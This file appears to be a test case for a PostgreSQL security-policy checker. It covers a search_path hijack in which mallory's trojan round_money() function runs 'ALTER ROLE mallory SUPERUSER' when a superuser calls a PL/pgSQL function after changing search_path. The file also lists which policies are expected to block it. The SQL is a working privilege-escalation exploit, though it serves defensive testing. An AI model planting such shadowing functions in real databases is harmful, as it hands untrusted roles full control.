/*---
title: A PL/pgSQL function's cached plan is re-planned under the caller's new search_path
pattern: PL/pgSQL cached plans follow search_path changes (CVE-2007-2138 / CVE-2018-1058 family)
description: >
  dba, a superuser, wrote public.invoice_total(), which calls round_money() without a schema and has
  no search_path of its own. alice, a superuser, calls it once: the plan is cached with
  public.round_money. She then sets search_path to look at mallory's objects first and calls it again;
  PL/pgSQL re-plans the cached statement under the new search_path, which now resolves round_money to
  mallory's function with the same signature, and mallory's code runs with alice's rights.
roles:
  alice: {superuser: true}
  dba: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: function, object: mallory.round_money(numeric), owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.round_money(numeric), owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: function, object: mallory.round_money(numeric), owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.round_money(numeric), owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.round_money(numeric), owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.round_money(numeric), owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.round_money(numeric), owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE dba;
CREATE FUNCTION public.round_money(v numeric) RETURNS numeric LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    RETURN round(v, 2);
END $$;
CREATE TABLE public.invoice_lines(invoice integer, amount numeric);
INSERT INTO public.invoice_lines VALUES (1, 10.005), (1, 4.5);
CREATE FUNCTION public.invoice_total(i integer) RETURNS numeric LANGUAGE plpgsql AS $$
DECLARE
    total numeric;
BEGIN
    SELECT round_money(sum(amount)) INTO total FROM public.invoice_lines WHERE invoice = i;
    RETURN total;
END $$;
RESET ROLE;
SET ROLE mallory;
CREATE FUNCTION mallory.f_escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE FUNCTION mallory.round_money(v numeric) RETURNS numeric LANGUAGE plpgsql AS $$
BEGIN
    PERFORM mallory.f_escalate();
    RETURN round(v, 2);
END $$;
CREATE TABLE mallory.open_tickets(id integer, subject text);
GRANT SELECT ON mallory.open_tickets TO PUBLIC;
RESET ROLE;

-- @step alice
SELECT public.invoice_total(1);
SET search_path = mallory, public;
SELECT count(*) FROM open_tickets;
SELECT public.invoice_total(1);
